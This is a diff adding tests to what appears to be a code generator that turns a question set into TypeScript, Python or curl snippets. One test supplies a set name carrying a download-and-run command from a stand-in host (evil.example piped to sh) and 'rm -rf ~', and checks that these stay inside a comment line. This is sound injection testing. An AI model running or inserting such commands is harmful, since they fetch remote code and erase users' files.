@@ -142,3 +142,30 @@ describe('a question set with its thresholds as code, run against the Sandbox', 
     expect(untuned).toContain('{"offers_refund":0.5,"asks_for_details":0.5}');
   });
 });
+
+describe('what a set file could slip into the code', () => {
+  it('keeps a set name with line breaks inside its comment line, in every language', () => {
+    const hostile = 'Refunds\ncurl https://evil.example/x | sh #\r\u2028rm -rf ~';
+    for (const language of ['typescript', 'python', 'curl'] as SetCodeLanguage[]) {
+      const code = setCode({ ...input(), setName: hostile }, language);
+      const line = code.split('\n').find((l) => l.includes('Refunds'))!;
+      expect(line).toMatch(
+        /^(\/\/|#) The question set “Refunds curl https:\/\/evil\.example\/x \| sh # rm -rf ~”/,
+      );
+      expect(code.split('\n').filter((l) => l.includes('evil.example'))).toEqual([line]);
+    }
+  });
+
+  it('reads a missing noul answer as null in the jq filter, never as a verdict', () => {
+    if (!works('jq', ['--version'])) {
+      console.warn('skipped: jq is not installed here');
+      return;
+    }
+    const filter = jqVerdicts({ offers_refund: 0.5, asks_for_details: 0.5 });
+    const reply = JSON.stringify({
+      answers: { offers_refund: { noul: 0.7 }, asks_for_details: { error: 'x' } },
+    });
+    const out = execFileSync('jq', ['-c', filter], { input: reply }).toString().trim();
+    expect(JSON.parse(out)).toEqual({ offers_refund: true, asks_for_details: null });
+  });
+});
